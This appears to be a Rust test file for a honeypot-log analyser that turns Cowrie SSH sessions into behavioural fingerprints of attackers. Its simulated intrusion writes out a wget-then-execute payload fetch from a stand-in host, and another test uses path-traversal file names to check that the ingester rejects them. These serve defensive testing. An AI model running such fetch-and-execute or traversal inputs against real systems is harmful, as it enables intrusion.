//! Sessions into behaviour samples: what a session shows of who sits behind it.

use corral::store::revision::View;

use super::*;

/// Typed by somebody: 25 inputs.
pub(super) const TYPED: &str = "806b9abddb8267e96a6974ff6ba840b8d9ab24bc639d36585b14b61997382c4c";
/// Typed by somebody else.
const TYPED_TOO: &str = "ea61dd1371d8deb7ecf8112d5d91cdd2e9ef1cd3d1e0e82164dc2dd408e46a33";
/// Sent by a script, in 12 inputs.
pub(super) const PASTED: &str = "28d83d611502c1c6f478965f7824b20f2d8ce36708f39970bfe5ed23583d4246";
/// Typed, and too short to tell.
const SHORT: &str = "498bdd49b2cf66f837347588785a6caa8442e0a84bd2b1d361581644316710e7";

const ROWS: &str = "SELECT primitive, value, confidence, window_start_ts, window_end_ts, ts FROM observations ORDER BY primitive";

pub(super) fn recording(name: &str) -> Vec<u8> {
    let folder = crate::tree::root().join("tests/data/emansih_2021");
    fs::read(folder.join(name)).unwrap()
}

/// A row of a session's log, so many seconds and microseconds after noon.
fn row(session: &str, (second, micros): (u32, u32), event: &str, more: &str) -> String {
    let comma = if more.is_empty() { "" } else { "," };
    format!(
        "{{\"eventid\":\"cowrie.{event}\",\"session\":\"{session}\",\"src_ip\":\"203.0.113.9\",\"sensor\":\"pot-1\",\
         \"timestamp\":\"2022-05-29T12:{:02}:{:02}.{micros:06}Z\"{comma}{more}}}\n",
        second / 60,
        second % 60
    )
}

fn command(session: &str, second: u32, input: &str) -> String {
    row(session, (second, 0), "command.input", &format!("\"input\":\"{input}\""))
}

fn closed(session: &str, second: u32, recording: &str) -> String {
    let more = format!("\"ttylog\":\"var/lib/cowrie/tty/{recording}\",\"duplicate\":false");
    row(session, (second, 0), "log.closed", &more)
}

/// Somebody logs in, looks round, fetches something, and leaves.
fn visit() -> Vec<String> {
    let session = "a1b2c3d4e5f6";
    let at = |second, event, more| row(session, (second, 0), event, more);
    vec![
        at(0, "session.connect", "\"protocol\":\"ssh\""),
        row(session, (0, 250_001), "client.version", "\"version\":\"SSH-2.0-PuTTY_0.76\""),
        at(1, "client.kex", "\"hassh\":\"51cba57125523ce4b9db67714a90bf6e\""),
        at(3, "login.success", "\"username\":\"root\",\"password\":\"123456\""),
        command(session, 10, "w"),
        command(session, 13, "uname -a; cat /proc/cpuinfo"),
        command(session, 22, "cd /tmp && wget http://198.51.100.7/x"),
        at(
            23,
            "session.file_download",
            "\"shasum\":\"b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c\"",
        ),
        command(session, 26, "chmod +x x; ./x"),
        command(session, 30, "rm x"),
        closed(session, 1_100, TYPED),
        at(1_100, "session.closed", ""),
    ]
}

/// What it shows: noon was 1,653,825,600 seconds after 1970 began.
const VISIT: [&str; 9] = [
    "cognitive.inter_command_latency_class|\"llm_lightweight\"|0.6|10.0|30.0|1653825630.0",
    "cognitive.tool_vocabulary|\"moderate\"|0.8|10.0|30.0|1653825630.0",
    "motor.digraph_simhash|\"bd1ecefcc98d8377\"|0.95|1100.0|1100.0|1653826700.0",
    "motor.input_modality|\"typed\"|0.95|1100.0|1100.0|1653826700.0",
    "operational.cleanup_behavior|\"partial\"|0.45|10.0|30.0|1653825630.0",
    "temporal.session_duration|\"medium\"|1.0|0.0|1100.0|1653826700.0",
    "toolchain.payload.payload_simhash|\"b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c\"|1.0|23.0|23.0|1653825623.0",
    "toolchain.ssh.hassh_client|\"51cba57125523ce4b9db67714a90bf6e\"|1.0|1.0|1.0|1653825601.0",
    "toolchain.ssh.ssh_client_banner|\"SSH-2.0-PuTTY_0.76\"|1.0|0.250001|0.250001|1653825600.25",
];

fn ingest_through_the_executable(place: &Place, path: &Path) {
    let output = place.corral(&["ingest", "cowrie", &path.display().to_string()]);
    assert!(output.status.success(), "{}", text(&output.stderr));
}

fn revision(place: &Place) -> u64 {
    place.runtime.block_on(async {
        let store = Store::open(&place.url(), Duration::from_secs(30)).await.unwrap();
        let revision = store.revision(View::Behaviour).await.unwrap();
        store.close().await;
        revision
    })
}

#[test]
fn a_session_becomes_its_samples() {
    let place = Place::new();
    let log = place.put("cowrie.json", visit().concat());
    place.put(&format!("tty/{TYPED}"), recording(TYPED));
    ingest_through_the_executable(&place, &log);
    assert_eq!(place.rows(ROWS), VISIT);
    assert_eq!(
        place.rows(
            "SELECT DISTINCT identity_ref, source, evidence_ref, envelope_v, \
             attacker_uuid = (SELECT uuid FROM attackers) FROM observations"
        ),
        ["NULL|corral/behaviour|session:203.0.113.9/pot-1#a1b2c3d4e5f6|1|1"]
    );
    assert_eq!(
        place.one("SELECT printf('%.6f', ts) FROM observations WHERE primitive LIKE '%banner'"),
        "1653825600.250001",
        "to the microsecond"
    );
    // A UUID of version 5 over the session and the primitive, as any library makes it.
    assert_eq!(
        place.one("SELECT id FROM observations WHERE primitive = 'motor.input_modality'"),
        "3fe44866-8303-57fa-86a8-eb9d52b03a64"
    );
    assert_eq!(revision(&place), 1);
}

#[test]
fn a_session_that_grows_changes_its_samples() {
    let place = Place::new();
    place.put(&format!("tty/{TYPED}"), recording(TYPED));
    let visit = visit();
    // The middle first: no start, no end, and two commands.
    let pieces = [&visit[5..7], &visit[8..], &visit[1..5], &visit[7..8], &visit[..1]];
    let expected: [&[&str]; 3] = [
        &[
            "cognitive.tool_vocabulary|\"narrow\"|0.6|0.0|9.0|1653825622.0",
            "operational.cleanup_behavior|\"none\"|0.45|0.0|9.0|1653825622.0",
        ],
        &[
            "cognitive.inter_command_latency_class|\"llm_lightweight\"|0.55|0.0|17.0|1653825630.0",
            "cognitive.tool_vocabulary|\"moderate\"|0.75|0.0|17.0|1653825630.0",
            "motor.digraph_simhash|\"bd1ecefcc98d8377\"|0.95|1087.0|1087.0|1653826700.0",
            "motor.input_modality|\"typed\"|0.95|1087.0|1087.0|1653826700.0",
            "operational.cleanup_behavior|\"partial\"|0.45|0.0|17.0|1653825630.0",
            "temporal.session_duration|\"medium\"|1.0|0.0|1087.0|1653826700.0",
        ],
        &[],
    ];
    for (at, piece) in pieces.iter().enumerate() {
        let log = place.put(&format!("{at}.json"), piece.concat());
        place.ingest(std::slice::from_ref(&log));
        if let Some(expected) = expected.get(at).filter(|rows| !rows.is_empty()) {
            assert_eq!(place.rows(ROWS), *expected, "piece {at}");
        }
        let before = (place.exact_dump(), revision(&place));
        place.ingest(&[log]);
        assert_eq!((place.exact_dump(), revision(&place)), before, "piece {at} again");
    }
    assert_eq!(place.rows(ROWS), VISIT);
}

#[test]
fn of_several_the_earliest_counts_then_the_smallest() {
    let place = Place::new();
    let kex = |second, hassh: &str| {
        row("s", (second, 0), "client.kex", &format!("\"hassh\":\"{}\"", hassh.repeat(32)))
    };
    let hassh = || {
        place.one("SELECT substr(value, 1, 3) || '|' || ts FROM observations WHERE primitive LIKE '%hassh_client'")
    };
    for (rows, expected) in [
        (kex(5, "c"), "\"cc|1653825605.0"),
        (kex(6, "a"), "\"cc|1653825605.0"),
        (kex(5, "b") + &kex(5, "d"), "\"bb|1653825605.0"),
        (kex(4, "f"), "\"ff|1653825604.0"),
    ] {
        let log = place.put("cowrie.json", rows);
        place.ingest(&[log]);
        assert_eq!(hassh(), expected);
    }
}

#[test]
fn who_only_knocks_shows_only_what_the_client_is() {
    let place = Place::new();
    let session = |id: &str, rows: &[&str]| {
        rows.iter()
            .zip(0..)
            .map(|(event, second)| row(id, (second, 0), event, ""))
            .collect::<String>()
    };
    let knock = session("knock", &["session.connect", "session.closed"]);
    let version = row("client", (0, 0), "client.version", "\"version\":\"SSH-2.0-Go\"");
    let open = row("open", (0, 0), "login.failed", "\"username\":\"a\",\"password\":\"b\"");
    let log = place
        .put("cowrie.json", knock + &version + &session("client", &["session.closed"]) + &open);
    place.ingest(&[log]);
    assert_eq!(
        place.rows("SELECT primitive, value, evidence_ref FROM observations"),
        ["toolchain.ssh.ssh_client_banner|\"SSH-2.0-Go\"|session:203.0.113.9/pot-1#client"]
    );
}

#[test]
fn the_length_of_a_session_has_its_edges() {
    let place = Place::new();
    let mut log = String::new();
    for (id, minutes, micros) in [
        ("a", 14, 999_999),
        ("b", 15, 0),
        ("c", 89, 999_999),
        ("d", 90, 0),
        ("e", 240, 0),
        ("f", 240, 1),
    ] {
        let second = if micros == 999_999 { minutes * 60 + 59 } else { minutes * 60 };
        log += &row(id, (0, 0), "login.failed", "\"username\":\"a\",\"password\":\"b\"");
        // The clock of `row` shows minutes up to 59.
        let (hour, second) = (12 + second / 3_600, second % 3_600);
        log += &row(id, (second, micros), "session.closed", "")
            .replace("T12:", &format!("T{hour:02}:"));
    }
    let log = place.put("cowrie.json", log);
    place.ingest(&[log]);
    assert_eq!(
        place.rows("SELECT value FROM observations ORDER BY evidence_ref"),
        ["\"short\"", "\"medium\"", "\"medium\"", "\"long\"", "\"long\"", "\"marathon\""]
    );
}

#[test]
fn a_recording_is_found_wherever_it_lies_beside_the_logs() {
    let log = closed("s", 9, TYPED);
    for (file, named) in [
        (TYPED.to_owned(), "log/cowrie.json"),
        (format!("log/{TYPED}"), "log/cowrie.json"),
        (format!("log/tty/{TYPED}"), "log/cowrie.json"),
        (format!("log/tty/{TYPED}"), "log"),
        (format!("log/tty/{TYPED}"), ""),
        (format!("lib/cowrie/tty/{TYPED}"), ""),
        (format!("var/lib/cowrie/tty/{TYPED}"), ""),
        (format!("tty/{TYPED}.gz"), ""),
    ] {
        let place = Place::new();
        place.put("in/log/cowrie.json", &log);
        let content = recording(TYPED);
        let is_packed = file.ends_with("gz");
        place.put(&format!("in/{file}"), if is_packed { gzip(&content) } else { content });
        ingest_through_the_executable(&place, &place.path("in").join(named));
        let found = place.rows("SELECT value FROM observations ORDER BY primitive");
        // What lies above a log that was named by itself is none of its business.
        let is_beside = named != "log/cowrie.json" || file.starts_with("log/");
        let expected: &[&str] =
            if is_beside { &["\"bd1ecefcc98d8377\"", "\"typed\""] } else { &[] };
        assert_eq!(found, expected, "{file} beside {named}");
    }
}

#[test]
fn a_recording_that_is_not_there_or_not_the_sessions_own_tells_nothing() {
    let place = Place::new();
    place.put(&format!("tty/{TYPED}"), recording(TYPED));
    place.put(&format!("tty/{SHORT}"), recording(SHORT));
    place.put("tty/text", "not a recording at all, but long enough to be one");
    fs::create_dir(place.path("tty/folder")).unwrap();
    place.put("secret", recording(TYPED));
    let duplicate = closed("duplicate", 1, TYPED).replace("false", "true");
    let names = [
        SHORT,
        "text",
        "folder",
        "missing",
        "",
        ".",
        "..",
        "/",
        "a/../..",
        "\\u0000",
        "../../../secret/",
    ];
    let others: String = names.iter().zip(2..).map(|(name, at)| closed("s", at, name)).collect();
    let log = place.put("cowrie.json", duplicate + &others);
    let summary = place.ingest(&[log]);
    assert_eq!((summary.events, summary.problems.len()), (12, 0));
    assert_eq!(place.rows(ROWS), [""; 0]);
}

#[test]
fn a_recording_that_comes_later_is_found_then() {
    let place = Place::new();
    let visit = visit();
    let log = place.put("cowrie.json", visit.concat());
    place.ingest(std::slice::from_ref(&log));
    assert_eq!(place.one("SELECT COUNT(*) FROM observations"), "7");
    let attackers = (place.table("attackers"), place.table("corral_session"));
    place.put(&format!("tty/{TYPED}"), recording(TYPED));
    let again = place.ingest(std::slice::from_ref(&log));
    assert_eq!((again.events_new, again.sessions_grown, again.attackers_updated), (0, 0, 0));
    assert_eq!(place.rows(ROWS), VISIT);
    assert_eq!((place.table("attackers"), place.table("corral_session")), attackers);
    assert_eq!(revision(&place), 2);
    // And what was found stays, without the recording.
    fs::remove_file(place.path(&format!("tty/{TYPED}"))).unwrap();
    place.ingest(&[log]);
    assert_eq!((place.rows(ROWS), revision(&place)), (VISIT.map(str::to_owned).to_vec(), 2));
}

#[test]
fn of_a_long_recording_the_beginning_is_read() {
    let read = |recording_bytes_max| {
        let place = Place::new();
        place.put(&format!("tty/{TYPED_TOO}"), recording(TYPED_TOO));
        place.put(&format!("tty/{PASTED}.gz"), gzip(&recording(PASTED)));
        let log = closed("s", 1, TYPED_TOO) + &closed("t", 1, PASTED);
        let log = place.put("cowrie.json", log);
        let config = IngestConfig { recording_bytes_max, ..IngestConfig::default() };
        place.ingest_with(&config, &[log]);
        place.rows("SELECT value, confidence FROM observations ORDER BY value")
    };
    let all = ["\"fbddb41439a6d4da\"|0.95", "\"pasted\"|0.95", "\"typed\"|0.95"];
    assert_eq!(read(1 << 20), all);
    assert_eq!(read(recording(TYPED_TOO).len()), all);
    // Its eighth input ends at this byte, and with seven there is no telling.
    assert_eq!(read(2_555), ["\"typed\"|0.8"]);
    assert_eq!(read(2_554), [""; 0]);
    assert_eq!(read(0), [""; 0]);
}
